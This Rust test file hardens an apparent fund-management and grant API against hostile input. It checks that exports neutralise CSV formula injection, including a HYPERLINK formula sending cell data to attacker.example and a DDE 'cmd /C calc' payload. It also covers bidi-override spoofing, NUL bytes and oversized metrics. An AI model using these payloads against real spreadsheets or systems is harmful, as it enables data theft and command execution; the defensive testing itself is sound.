//! Hardening against hostile traffic and insiders, on both backends: what an attacker's probe
//! found, each replayed as it was reported.

use crate::common;
use investai::domain::roles::Role;

use common::{created, id, TestApp};
use futures_util::stream::{self, StreamExt};
use serde_json::{json, Value};

/// Unknown paths an anonymous client sends.
const UNKNOWN_PATHS: usize = 20_000;
/// Largest `/metrics` page after them.
const METRICS_BYTES_MAX: usize = 100 * 1024;

async fn metrics_stay_bounded_whatever_paths_are_requested(app: TestApp) {
    let client = reqwest::Client::new();
    let address = app.address.clone();
    let shapes = ["/{n}", "/api/v1/{n}", "/api/v1/funds/{n}/{n}/x", "/static/{n}.css", "/applications/{n}/x/{n}"];
    let statuses: Vec<u16> = stream::iter(0..UNKNOWN_PATHS)
        .map(|n| {
            let path =
                shapes[n % shapes.len()].replace("{n}", &format!("probe-{n:05}-{}", uuid::Uuid::new_v4().simple()));
            let (client, address) = (client.clone(), address.clone());
            async move { client.get(format!("{address}{path}")).send().await.map_or(0, |r| r.status().as_u16()) }
        })
        .buffer_unordered(32)
        .collect()
        .await;
    let odd: Vec<&u16> = statuses.iter().filter(|s| **s != 404 && **s != 401).collect();
    assert!(odd.is_empty(), "unexpected statuses: {:?}", &odd[..odd.len().min(10)]);
    let metrics = app.send(app.client.get(format!("{}/metrics", app.address))).await;
    assert!(
        metrics.text.len() < METRICS_BYTES_MAX,
        "/metrics is {} bytes after {UNKNOWN_PATHS} unknown paths",
        metrics.text.len()
    );
    assert!(!metrics.text.contains("probe-"), "a raw path became a label");
    assert!(metrics.text.contains("endpoint=\"UNKNOWN\""), "unmatched requests share one label");
    // Known routes keep their pattern, not the ids in them.
    let fund = app.create_fund("Metrics").await;
    app.get(&format!("/api/v1/funds/{fund}"), &app.staff()).await;
    let metrics = app.send(app.client.get(format!("{}/metrics", app.address))).await;
    assert!(metrics.text.contains("endpoint=\"/api/v1/funds/{fund_id}\""), "route patterns as labels");
    assert!(!metrics.text.contains(&fund), "no id in a label");
}

/// CSV records of an export, the `#` preamble skipped, as (header, value) maps.
async fn csv_export(app: &TestApp, fund: &str, name: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let reply = app.get(&format!("/api/v1/funds/{fund}/exports/{name}?as_of=2030-12-31"), &app.auditor()).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(reply.text.as_bytes());
    let headers = reader.headers().expect("header row").clone();
    reader
        .records()
        .map(|r| headers.iter().zip(r.expect("record").iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect())
        .collect()
}

async fn csv_exports_neutralise_formulas_and_keep_amounts_numbers(app: TestApp) {
    let fund = app.create_fund("Injection").await;
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
    let body = json!({"effective_date": "2025-01-01", "description": formula, "postings": [
        {"account": "1000", "debit": "100.00", "memo": "+1+1"}, {"account": "3900", "credit": "100.00", "memo": "@SUM(A1:A9)"}]});
    created(&app, &format!("/api/v1/funds/{fund}/journal-entries"), body).await;
    let rows = csv_export(&app, &fund, "journal.csv").await;
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|r| r["description"] == format!("'{formula}")), "{rows:?}");
    assert_eq!(rows[0]["memo"], "'+1+1");
    assert_eq!(rows[1]["memo"], "'@SUM(A1:A9)");
    assert_eq!((rows[0]["debit"].as_str(), rows[1]["credit"].as_str()), ("100.00", "100.00"), "amounts stay numbers");
    // A negative amount is a number, not a formula: the trial balance's net of a credit.
    let source = created(
        &app,
        "/api/v1/sources",
        json!({"kind": "private", "legal_name": "-cmd|' /C calc'!A0", "country": "FR"}),
    )
    .await;
    let tranche = created(
        &app,
        &format!("/api/v1/funds/{fund}/tranches"),
        json!({"name": "=1+1", "seniority": 1, "target_size": "1000.00", "pref_rate": "0"}),
    )
    .await;
    created(&app, &format!("/api/v1/funds/{fund}/commitments"), json!({"source_id": id(&source), "tranche_id": id(&tranche), "amount": "500.00", "effective_date": "2025-01-01"})).await;
    let balances = csv_export(&app, &fund, "trial-balance.csv").await;
    let equity = balances.iter().find(|r| r["account_code"] == "3900").expect("3900");
    assert_eq!(equity["net"], "-100.00", "{equity:?}");
    let capital = csv_export(&app, &fund, "capital-accounts.csv").await;
    assert_eq!(capital[0]["investor_name"], "'-cmd|' /C calc'!A0");
    assert_eq!(capital[0]["tranche_name"], "'=1+1");
    assert_eq!(capital[0]["committed"], "500.00");
}

/// A gigafactory of 1,000 GPUs; its id.
async fn register_facility(app: &TestApp) -> String {
    let body = json!({"name": "GF", "kind": "gigafactory", "member_state": "DE",
        "chip_count": 1000, "chip_type": "GPU", "quarterly_capacity_gpu_hours": 2160000});
    id(&created(app, "/api/v1/facilities", body).await)
}

/// A party-bound user acts for a party that exists and is of its role's kind.
async fn users_act_for_parties_that_exist(app: TestApp) {
    let admin = app.token(investai::domain::roles::Role::Admin, "root");
    let source = id(&created(
        &app,
        "/api/v1/sources",
        json!({"kind": "private", "legal_name": "Alpha Capital", "country": "FR"}),
    )
    .await);
    let facility = register_facility(&app).await;
    let user = |name: &str, role: &str, party: &str| json!({"username": name, "role": role, "party_id": party, "password": "a long enough password"});
    let missing = uuid::Uuid::now_v7().to_string();
    for (role, party) in [
        ("investor", missing.as_str()),
        ("investor", facility.as_str()),
        ("facility", missing.as_str()),
        ("facility", source.as_str()),
        ("sme", source.as_str()),
        ("sme", facility.as_str()),
    ] {
        let reply = app.post("/api/v1/users", &admin, &user("someone", role, party)).await;
        common::assert_problem(&reply, 422, Some("party_id"));
        assert_eq!(reply.body["type"], "/problems/unknown-party", "{role} for {party}");
    }
    for (name, role, party) in [
        ("ivy", "investor", source.as_str()),
        ("fay", "facility", facility.as_str()),
        ("sam", "sme", "01934b7e-0000-7000-8000-00000000abcd"),
    ] {
        let reply = app.post("/api/v1/users", &admin, &user(name, role, party)).await;
        assert_eq!(reply.status, 201, "{}", reply.text);
    }
    let users = app.get("/api/v1/users", &admin).await;
    let mut names: Vec<&str> =
        users.body["items"].as_array().into_iter().flatten().filter_map(|u| u["username"].as_str()).collect();
    names.sort_unstable();
    // Besides the three, only the users the harness's tokens speak for (root, alice).
    assert_eq!(names, ["alice", "fay", "ivy", "root", "sam"], "the refused users were not created");
}

/// A page size outside 1 to the maximum is refused, not quietly changed (0 and -1 became 1, and
/// 100000 the maximum, before).
async fn page_limits_out_of_range_are_refused(app: TestApp) {
    let fund = app.create_fund("Limits").await;
    for n in 0..3 {
        let body = json!({"effective_date": "2025-01-01", "description": format!("entry {n}"), "postings": [
            {"account": "1000", "debit": "1.00"}, {"account": "3900", "credit": "1.00"}]});
        created(&app, &format!("/api/v1/funds/{fund}/journal-entries"), body).await;
    }
    for path in ["/api/v1/ledger/entries", &format!("/api/v1/funds/{fund}/commitments"), "/api/v1/applications"] {
        for limit in ["0", "-1", "501", "100000"] {
            let reply = app.get(&format!("{path}?limit={limit}"), &app.staff()).await;
            common::assert_problem(&reply, 400, Some("query.limit"));
            assert!(reply.text.contains("must be 1 to 500"), "{}", reply.text);
        }
    }
    let one = app.get(&format!("/api/v1/ledger/entries?fund_id={fund}&limit=1"), &app.auditor()).await;
    assert_eq!(one.status, 200, "{}", one.text);
    assert_eq!(one.body["items"].as_array().map(Vec::len), Some(1));
    assert!(one.body["next_after"].is_string());
}

/// Every id the document types as a UUID is checked as one, in paths, queries and bodies, and
/// refused with the field's name (`/smes/null,null/grants` answered 200; a body id that was no
/// UUID was looked up and answered 422 as if unknown).
async fn ids_are_checked_as_uuids_wherever_they_are_sent(app: TestApp) {
    let fund = app.create_fund("Ids").await;
    let staff = app.staff();
    let not_uuid = "null,null";
    let tranche =
        json!({"name": "Senior", "seniority": 1, "target_size": "1000.00", "pref_rate": "0.05", "min_ticket": "1.00"});
    let tranche = id(&created(&app, &format!("/api/v1/funds/{fund}/tranches"), tranche).await);
    let commitment =
        json!({"source_id": not_uuid, "tranche_id": tranche, "amount": "10.00", "effective_date": "2025-03-01"});
    let refused = app.post(&format!("/api/v1/funds/{fund}/commitments"), &staff, &commitment).await;
    common::assert_problem(&refused, 400, Some("source_id"));
    let call = json!({"fund_id": fund, "name": "Ids call", "budget": "1000.00",
        "opens_at": "2025-01-01T00:00:00Z", "closes_at": "2025-02-01T00:00:00Z",
        "eligible_facility_ids": [uuid::Uuid::now_v7().to_string(), "LUMI"], "max_gpu_hours_per_award": "10",
        "aid_basis": "industrial_research", "aid_measure_reference": "SA.100001", "min_reviewers": 1, "min_average_score": "50"});
    let refused = app.post("/api/v1/grant-calls", &staff, &call).await;
    common::assert_problem(&refused, 400, Some("eligible_facility_ids[1]"));
    for query in [
        format!("/api/v1/ledger/entries?fund_id={not_uuid}"),
        format!("/api/v1/notices?investor_id={not_uuid}"),
        format!("/api/v1/awards?sme_id={not_uuid}"),
        format!("/api/v1/funds/{fund}/commitments?after={not_uuid}"),
    ] {
        let refused = app.get(&query, &app.auditor()).await;
        let parameter = query.split('?').nth(1).and_then(|q| q.split('=').next()).unwrap_or_default();
        common::assert_problem(&refused, 400, Some(&format!("query.{parameter}")));
    }
    common::assert_problem(
        &app.get(&format!("/api/v1/smes/{not_uuid}/grants"), &app.auditor()).await,
        400,
        Some("sme_id"),
    );
    // Ids in other spellings of a UUID are taken in canonical form.
    let upper = fund.to_uppercase();
    assert_eq!(app.get(&format!("/api/v1/ledger/entries?fund_id={upper}"), &app.auditor()).await.status, 200);
}

/// Every list answers `{items, next_after}` and honours `limit`; walking a list a page of one
/// at a time gives the whole list, each item once, in its order (`/funds` and `/sources`
/// answered bare arrays and ignored `limit`).
async fn every_list_answers_pages_and_honours_limit(app: TestApp) {
    let staff = app.staff();
    let fund = app.create_fund("Paged A").await;
    app.create_fund("Paged B").await;
    for (n, name) in ["Senior", "Junior", "Equity"].iter().enumerate() {
        let body = json!({"name": name, "seniority": n + 1, "target_size": "1000.00", "pref_rate": "0.05", "min_ticket": "1.00"});
        created(&app, &format!("/api/v1/funds/{fund}/tranches"), body).await;
    }
    let senior = app.get(&format!("/api/v1/funds/{fund}/tranches?limit=1"), &staff).await;
    let senior = senior.body["items"][0]["id"].as_str().expect("the senior tranche").to_string();
    for name in ["Alpha", "Beta"] {
        let source =
            created(&app, "/api/v1/sources", json!({"kind": "private", "legal_name": name, "country": "FR"})).await;
        let commitment =
            json!({"source_id": id(&source), "tranche_id": senior, "amount": "100.00", "effective_date": "2025-01-01"});
        created(&app, &format!("/api/v1/funds/{fund}/commitments"), commitment).await;
    }
    let call = json!({"call_date": "2025-02-01", "due_date": "2025-03-01", "description": "First call",
        "lines": [{"tranche_id": senior, "purpose": "expenses", "amount": "50.00"}]});
    created(&app, &format!("/api/v1/funds/{fund}/capital-calls"), call).await;
    let facility = register_facility(&app).await;
    for date in ["2025-01-01", "2025-06-01"] {
        let price = json!({"effective_date": date, "price_per_gpu_hour": "2.10"});
        created(&app, &format!("/api/v1/facilities/{facility}/prices"), price).await;
    }
    app.token(investai::domain::roles::Role::Staff, "second-staff");
    let admin = app.token(investai::domain::roles::Role::Admin, "root");
    let lists = [
        "/api/v1/funds".to_string(),
        "/api/v1/sources".into(),
        "/api/v1/facilities".into(),
        "/api/v1/grant-calls".into(),
        "/api/v1/awards".into(),
        "/api/v1/grants/register".into(),
        "/api/v1/distribution-notices".into(),
        "/api/v1/users".into(),
        format!("/api/v1/funds/{fund}/tranches"),
        format!("/api/v1/funds/{fund}/accounts"),
        format!("/api/v1/funds/{fund}/capital-calls"),
        format!("/api/v1/funds/{fund}/deployments"),
        format!("/api/v1/funds/{fund}/distributions"),
        format!("/api/v1/funds/{fund}/waterfall/versions"),
        format!("/api/v1/facilities/{facility}/prices"),
        format!("/api/v1/funds/{fund}/commitments"),
        "/api/v1/notices".into(),
        "/api/v1/ledger/entries".into(),
    ];
    for list in &lists {
        let token = if list.ends_with("/users") { &admin } else { &staff };
        let whole = app.get(&format!("{list}?limit=500"), token).await;
        assert_eq!(whole.status, 200, "{list}: {}", whole.text);
        let whole = whole.body["items"].as_array().unwrap_or_else(|| panic!("{list}: no items")).clone();
        let paged_here = list.ends_with("/commitments") || list.ends_with("/notices") || list.ends_with("/entries");
        assert!(!whole.is_empty() || !paged_here, "{list}: the test needs items to page through");
        let mut walked = Vec::new();
        let mut query = "?limit=1".to_string();
        for _ in 0..=whole.len() {
            let page = app.get(&format!("{list}{query}"), token).await;
            assert_eq!(page.status, 200, "{list}{query}: {}", page.text);
            let items = page.body["items"].as_array().cloned().unwrap_or_default();
            // The page holding the last item says no more follow: no empty page after it.
            assert!(!items.is_empty() || walked.is_empty(), "{list}{query}: an empty page was offered as the next one");
            walked.extend(items);
            match page.body["next_after"].as_str() {
                Some(after) => query = format!("?limit=1&after={after}"),
                None => break,
            }
        }
        assert_eq!(walked, whole, "{list}: pages of one give the whole list");
        common::assert_problem(&app.get(&format!("{list}?limit=0"), token).await, 400, Some("query.limit"));
    }
    let unknown = uuid::Uuid::now_v7();
    common::assert_problem(&app.get(&format!("/api/v1/funds?after={unknown}"), &staff).await, 400, Some("query.after"));
}

/// Walks `list` a page of `limit` at a time; the items in the order the pages gave them.
async fn walk(app: &TestApp, list: &str, token: &str, limit: usize) -> Vec<serde_json::Value> {
    let mut walked = Vec::new();
    let join = if list.contains('?') { '&' } else { '?' };
    let mut query = format!("{join}limit={limit}");
    for _ in 0..100 {
        let page = app.get(&format!("{list}{query}"), token).await;
        assert_eq!(page.status, 200, "{list}{query}: {}", page.text);
        let items = page.body["items"].as_array().cloned().unwrap_or_default();
        assert!(items.len() <= limit, "{list}{query}: {}", page.text);
        walked.extend(items);
        match page.body["next_after"].as_str() {
            Some(after) => query = format!("{join}limit={limit}&after={after}"),
            None => return walked,
        }
    }
    panic!("{list}: more than 100 pages")
}

fn texts(items: &[serde_json::Value], field: &str) -> Vec<String> {
    items.iter().map(|i| i[field].as_str().unwrap_or_else(|| panic!("{field} of {i}")).to_string()).collect()
}

/// The lists that grow with the books page in their queries (sources, awards, users,
/// proposals, the state-aid register): walked two at a time, each gives every item once, in
/// the order the test works out from the items themselves, through ties of its ordering key
/// (awards granted on one day, proposals made at one instant); an `after` naming no item of the
/// list is refused.
async fn long_lists_page_in_their_order_through_ties(app: TestApp) {
    let staff = app.staff();
    let admin = app.token(investai::domain::roles::Role::Admin, "root");
    for name in ["Source D", "Source B", "Source E", "Source A", "Source C"] {
        created(&app, "/api/v1/sources", json!({"kind": "private", "legal_name": name, "country": "FR"})).await;
    }
    let walked = walk(&app, "/api/v1/sources", &staff, 2).await;
    assert_eq!(texts(&walked, "legal_name"), ["Source A", "Source B", "Source C", "Source D", "Source E"]);
    // An investor's list is its own source alone: another's id is no item of it.
    let (own, other) = (texts(&walked, "id")[0].clone(), texts(&walked, "id")[1].clone());
    let investor = app.token(investai::domain::roles::Role::Investor, &own);
    let refused = app.get(&format!("/api/v1/sources?after={other}"), &investor).await;
    common::assert_problem(&refused, 400, Some("query.after"));
    assert_eq!(texts(&walk(&app, "/api/v1/sources", &investor, 2).await, "id"), [own]);

    let g = crate::grants::setup(&app, "1000000.00", 1_000_000).await;
    let call = crate::grants::open_call(&app, &g, "100000.00", "de_minimis", "50000", 1).await;
    let mut awarded = Vec::new();
    for n in 0..5 {
        let body = crate::grants::application(&g, &format!("RCS-PG{n}"), "100");
        let application = crate::grants::reviewed(&app, &call, &format!("sme-paged-{n}"), &body, 1).await;
        let award = crate::grants::award(&app, &application, json!({})).await;
        assert_eq!(award.status, 201, "{}", award.text);
        awarded.push(award.body["id"].as_str().expect("award id").to_string());
    }
    // Granted on one day: the register orders them by id, as the awards list does.
    awarded.sort();
    assert_eq!(texts(&walk(&app, "/api/v1/awards", &staff, 2).await, "id"), awarded);
    assert_eq!(texts(&walk(&app, "/api/v1/grants/register", &staff, 2).await, "award_id"), awarded);

    let mut proposed = Vec::new();
    for n in 0..5 {
        let body = json!({"kind": "manual_entry", "fund_id": g.fund, "effective_date": "2025-01-01",
            "description": format!("Paged {n}"), "postings": [
            {"account": "1010", "debit": "1.00"}, {"account": "3900", "credit": "1.00"}]});
        proposed.push(id(&created(&app, "/api/v1/proposals", body).await));
    }
    // Three of them made at one instant, the newest of the five.
    let tied = proposed[1..4].iter().map(|p| format!("'{p}'")).collect::<Vec<_>>().join(", ");
    app.sql(&format!("UPDATE proposals SET proposed_at = '2099-01-01 00:00:00' WHERE id IN ({tied})"))
        .expect("one instant");
    let mut newest_first = proposed[1..4].to_vec();
    newest_first.sort_by(|a, b| b.cmp(a));
    newest_first.extend([proposed[4].clone(), proposed[0].clone()]);
    assert_eq!(texts(&walk(&app, "/api/v1/proposals", &staff, 2).await, "id"), newest_first);
    let pending = texts(&walk(&app, "/api/v1/proposals?status=pending", &staff, 2).await, "id");
    assert_eq!(pending, newest_first);

    let mut usernames: Vec<String> = Vec::new();
    for n in [3, 1, 4, 0, 2] {
        let body = json!({"username": format!("paged-{n}"), "role": "auditor", "password": "a long enough password"});
        let user = app.post("/api/v1/users", &admin, &body).await;
        assert_eq!(user.status, 201, "{}", user.text);
    }
    {
        use diesel::prelude::*;
        let mut conn = app.conn();
        let conn: &mut investai::storage::DbConnection = &mut conn;
        usernames.extend(
            investai::storage::schema::users::table
                .select(investai::storage::schema::users::username)
                .load::<String>(conn)
                .expect("the users"),
        );
    }
    usernames.sort();
    assert_eq!(texts(&walk(&app, "/api/v1/users", &admin, 2).await, "username"), usernames);

    let unknown = uuid::Uuid::now_v7();
    for list in ["/api/v1/sources", "/api/v1/awards", "/api/v1/grants/register", "/api/v1/users", "/api/v1/proposals"] {
        let refused = app.get(&format!("{list}?after={unknown}"), &admin).await;
        common::assert_problem(&refused, 400, Some("query.after"));
    }
}

/// A body with several wrong fields is refused once, naming each of them (only the first was
/// named), and nothing is written.
async fn a_body_with_several_wrong_fields_names_them_all(app: TestApp) {
    let body =
        json!({"name": 5, "target_size": "abc", "inception_date": "not a date", "term_years": "ten", "colour": "red"});
    let refused = app.post("/api/v1/funds", &app.staff(), &body).await;
    for field in ["name", "target_size", "inception_date", "term_years", "colour"] {
        common::assert_problem(&refused, 400, Some(field));
    }
    let postings = json!({"effective_date": "2025-01-01", "description": "two wrong lines",
        "postings": [{"account": "1000", "debit": "x"}, {"account": "3900", "credit": "1.00"}], "memo": 3});
    let fund = app.create_fund("Several").await;
    let refused = app.post(&format!("/api/v1/funds/{fund}/journal-entries"), &app.staff(), &postings).await;
    common::assert_problem(&refused, 400, Some("postings[0].debit"));
    common::assert_problem(&refused, 400, Some("memo"));
    let funds = app.get("/api/v1/funds", &app.staff()).await;
    assert_eq!(funds.body["items"].as_array().map(Vec::len), Some(1), "only the fund made here");
}

/// A control character in a query parameter is refused on that parameter (400), by the API and
/// by the pages: a NUL reached PostgreSQL as a filter's text and answered 500.
async fn a_control_character_in_a_query_is_refused_on_its_parameter(app: TestApp) {
    for (path, field) in [
        ("/api/v1/ledger/entries?actor=%00", "query.actor"),
        ("/api/v1/ledger/entries?event_type=a%00b", "query.event_type"),
        ("/api/v1/ledger/entries?actor=%07", "query.actor"),
    ] {
        common::assert_problem(&app.get(path, &app.staff()).await, 400, Some(field));
    }
    let browser = app.browser_as("control-auditor", Role::Auditor, None).await;
    let page = common::pages::get(&browser, &app, "/audit/journal?actor=%00").await;
    assert_eq!(page.status, 400, "{}", page.text);
    assert!(page.content_type.starts_with("text/html"), "{}", page.content_type);
    // An account code in a path: no such account, whatever its characters.
    let fund = app.create_fund("Control characters fund").await;
    let balance = app.get(&format!("/api/v1/funds/{fund}/accounts/%00/balance"), &app.staff()).await;
    assert_eq!(balance.status, 404, "{}", balance.text);
    for code in ["%00", "9999"] {
        let page = common::pages::get(&browser, &app, &format!("/audit/ledger/{fund}/{code}")).await;
        assert_eq!(page.status, 404, "{code}: {}", page.text);
    }
}

/// Text that hides itself or reorders what follows it is refused on its field, and so is a
/// two-letter code that names no country; names in any script, and the EU's own codes, are kept.
async fn hidden_or_reordering_text_and_unassigned_countries_are_refused(app: TestApp) {
    let sources = |app: &TestApp| {
        let mut conn = app.conn();
        investai::storage::structure::page_of_sources(&mut conn, None, None, 500).map(|page| page.items.len())
    };
    let before = sources(&app).expect("sources");
    for (name, country, field) in [
        ("Evil\u{202E}proC latipaC", "DE", "legal_name"),
        ("Isolated \u{2066}name\u{2069}", "DE", "legal_name"),
        ("\u{200B}", "DE", "legal_name"),
        ("\u{FEFF} \u{2060}", "DE", "legal_name"),
        ("Unassigned Country Capital", "XX", "country"),
        ("Reserved Code Capital", "UK", "country"),
    ] {
        let body = json!({"kind": "private", "legal_name": name, "country": country});
        common::assert_problem(&app.post("/api/v1/sources", &app.staff(), &body).await, 400, Some(field));
    }
    assert_eq!(sources(&app).expect("sources"), before, "a refused source changed nothing");
    let fund = json!({"name": "Fund \u{202D}reversed", "target_size": "1000.00", "inception_date": "2025-01-01", "term_years": 10});
    common::assert_problem(&app.post("/api/v1/funds", &app.staff(), &fund).await, 400, Some("name"));
    // The same rule holds for every text a write keeps: a posting's memo, the payee on notices.
    let fund = app.create_fund("Hidden text fund").await;
    for memo in ["Fee \u{202E}desrever", "a\u{0}b", "\r\n\t", " Fee\r\n"] {
        let entry = json!({"effective_date": "2025-01-01", "description": "Reserve", "postings": [
            {"account": "1010", "debit": "1.00", "memo": memo}, {"account": "3900", "credit": "1.00"}]});
        let reply = app.post(&format!("/api/v1/funds/{fund}/journal-entries"), &app.staff(), &entry).await;
        common::assert_problem(&reply, 400, Some("postings[0].memo"));
    }
    let payee = json!({"account_holder": "InvestAI \u{202E}dtL", "iban": "DE89 3704 0044 0532 0130 00"});
    let admin = app.token(Role::Admin, "hidden-text-admin");
    let url = format!("{}/api/v1/funds/{fund}/bank-account", app.address);
    let reply = app.send(app.client.put(url).bearer_auth(&admin).json(&payee)).await;
    common::assert_problem(&reply, 400, Some("account_holder"));

    for (name, country, stored) in [("Me\u{200C}hr Capital", "xk", "XK"), ("Ελληνική Αναπτυξιακή Τράπεζα", "EL", "GR")]
    {
        let body = json!({"kind": "private", "legal_name": name, "country": country});
        let reply = app.post("/api/v1/sources", &app.staff(), &body).await;
        assert_eq!(reply.status, 201, "{}", reply.text);
        assert_eq!((reply.body["legal_name"].as_str(), reply.body["country"].as_str()), (Some(name), Some(stored)));
    }
}

/// Each number in a request is in plain notation: padding, an exponent, a `+` or a
/// JSON float is refused on its field (amounts, GPU-hours, rates and percents alike), and the
/// refusal writes nothing. Before, `" 5"` recorded 5.00 and `"8e-2"` a rate of 0.08.
async fn numbers_in_a_request_are_in_plain_notation(app: TestApp) {
    let fund = app.create_fund("Plain numbers fund").await;
    let tranches = format!("/api/v1/funds/{fund}/tranches");
    let tranche = |size: Value, rate: Value, cap: Value| json!({"name": "Plain", "seniority": 1, "target_size": size, "pref_rate": rate, "return_cap": cap});
    let (size, rate, cap) = (json!("1000.00"), json!("0.08"), json!("1.20"));
    let refusals = [
        (tranche(json!(" 1000.00"), rate.clone(), cap.clone()), "target_size"),
        (tranche(json!("1000.00\u{a0}"), rate.clone(), cap.clone()), "target_size"),
        (tranche(json!("1e3"), rate.clone(), cap.clone()), "target_size"),
        (tranche(size.clone(), json!("8e-2"), cap.clone()), "pref_rate"),
        (tranche(size.clone(), json!("+0.08"), cap.clone()), "pref_rate"),
        (tranche(size.clone(), json!(" 0.08"), cap.clone()), "pref_rate"),
        (tranche(size.clone(), json!(0.08), cap.clone()), "pref_rate"),
        (tranche(size.clone(), rate.clone(), json!("12e-1")), "return_cap"),
        (tranche(size.clone(), rate.clone(), json!(".5")), "return_cap"),
    ];
    for (body, field) in refusals {
        common::assert_problem(&app.post(&tranches, &app.staff(), &body).await, 400, Some(field));
    }
    let listed = app.get(&tranches, &app.staff()).await;
    assert_eq!(listed.body["items"].as_array().map(Vec::len), Some(0), "{}", listed.text);
    let made = app.post(&tranches, &app.staff(), &tranche(size, rate, cap)).await;
    assert_eq!(made.status, 201, "{}", made.text);
    // The figures as written, whatever trailing zeros the answer keeps.
    let figure = |name: &str| made.body[name].as_str().and_then(|t| t.parse::<rust_decimal::Decimal>().ok());
    let written = (Some(rust_decimal::Decimal::new(8, 2)), Some(rust_decimal::Decimal::new(12, 1)));
    assert_eq!((figure("pref_rate"), figure("return_cap")), written, "{}", made.text);
    // Percents of a waterfall: an exponent is refused on its step, a plain figure is not.
    let waterfall = format!("/api/v1/funds/{fund}/waterfall");
    let reserve = |percent: &str| json!({"steps": [{"type": "reserve", "account": "1010", "percent": percent}]});
    for percent in ["1e1", "10 ", "+10"] {
        let refused = app.post(&waterfall, &app.staff(), &reserve(percent)).await;
        common::assert_problem(&refused, 400, None);
        assert!(refused.text.contains("steps[0]"), "{}", refused.text);
    }
    let kept = app.post(&waterfall, &app.staff(), &reserve("10")).await;
    assert_eq!(kept.status, 201, "{}", kept.text);
}

/// A date is written `YYYY-MM-DD`. A signed year (`+10000-01-01`, `-0001-01-01`) was taken
/// before: PostgreSQL ordered it by the calendar, SQLite (which keeps dates as text) before every
/// other date, so the backends answered the same write differently (a payment of all the cash
/// dated `+10000-01-01` was recorded on PostgreSQL and refused on SQLite). Each looser form is
/// refused on its field, in a body and in a query, and posts nothing; so are timestamps outside
/// years 0000 to 9999 in UTC.
async fn dates_in_a_request_are_written_yyyy_mm_dd(app: TestApp) {
    let fund = app.create_fund("Calendar dates fund").await;
    let path = format!("/api/v1/funds/{fund}/journal-entries");
    let entry = |on: &str| {
        json!({"effective_date": on, "description": "Opening cash", "postings": [
        {"account": "1000", "debit": "100.00"}, {"account": "3900", "credit": "100.00"}]})
    };
    let verify = || async { app.get("/api/v1/ledger/verify", &app.auditor()).await.body["entries_checked"].clone() };
    let before = verify().await;
    for on in ["+10000-01-01", "-0001-01-01", "+2026-01-02", " 2026-01-02", "2026-1-02", "2026-01-02T00:00:00Z"] {
        let refused = app.post(&path, &app.staff(), &entry(on)).await;
        common::assert_problem(&refused, 400, Some("effective_date"));
        assert!(refused.text.contains("YYYY-MM-DD"), "{on:?}: {}", refused.text);
    }
    let refused = app.post(&path, &app.staff(), &entry("2025-02-29")).await;
    common::assert_problem(&refused, 400, Some("effective_date"));
    assert_eq!(verify().await, before, "a refusal posts nothing");
    let proposal = json!({"kind": "manual_entry", "fund_id": fund, "effective_date": "+10000-01-01",
        "description": "Far ahead", "postings": [{"account": "1000", "debit": "1.00"}, {"account": "3900", "credit": "1.00"}]});
    let refused = app.post("/api/v1/proposals", &app.staff(), &proposal).await;
    common::assert_problem(&refused, 400, None);
    assert!(refused.text.contains("YYYY-MM-DD"), "{}", refused.text);
    let balance = format!("/api/v1/funds/{fund}/accounts/1000/balance");
    for as_of in ["%2B10000-01-01", "-0001-01-01", "2026-1-2"] {
        let refused = app.get(&format!("{balance}?as_of={as_of}"), &app.auditor()).await;
        common::assert_problem(&refused, 400, Some("query.as_of"));
    }
    // Timestamps likewise: a grant call opening in year 10000, or whose offset carries it there.
    for (opens_at, field) in [
        ("+10000-01-01T00:00:00Z", "opens_at"),
        ("9999-12-31T23:00:00-05:00", "opens_at"),
        ("2026-1-01T00:00:00Z", "opens_at"),
    ] {
        let call = json!({"fund_id": fund, "name": "Far call", "budget": "1000.00",
            "opens_at": opens_at, "closes_at": "2025-02-01T00:00:00Z",
            "eligible_facility_ids": [], "max_gpu_hours_per_award": "10", "aid_basis": "industrial_research",
            "aid_measure_reference": "SA.100001", "min_reviewers": 1, "min_average_score": "50"});
        let refused = app.post("/api/v1/grant-calls", &app.staff(), &call).await;
        common::assert_problem(&refused, 400, Some(field));
        assert!(refused.text.contains("RFC 3339"), "{opens_at}: {}", refused.text);
    }
    created(&app, &path, entry("2026-01-02")).await;
    let read = app.get(&format!("{balance}?as_of=9999-12-31"), &app.auditor()).await;
    assert_eq!(read.body["net"], "100.00", "{}", read.text);
}

on_both_backends!(
    hidden_or_reordering_text_and_unassigned_countries_are_refused,
    a_body_with_several_wrong_fields_names_them_all,
    long_lists_page_in_their_order_through_ties,
    every_list_answers_pages_and_honours_limit,
    ids_are_checked_as_uuids_wherever_they_are_sent,
    page_limits_out_of_range_are_refused,
    metrics_stay_bounded_whatever_paths_are_requested,
    csv_exports_neutralise_formulas_and_keep_amounts_numbers,
    users_act_for_parties_that_exist,
    a_control_character_in_a_query_is_refused_on_its_parameter,
    numbers_in_a_request_are_in_plain_notation,
    dates_in_a_request_are_written_yyyy_mm_dd,
);
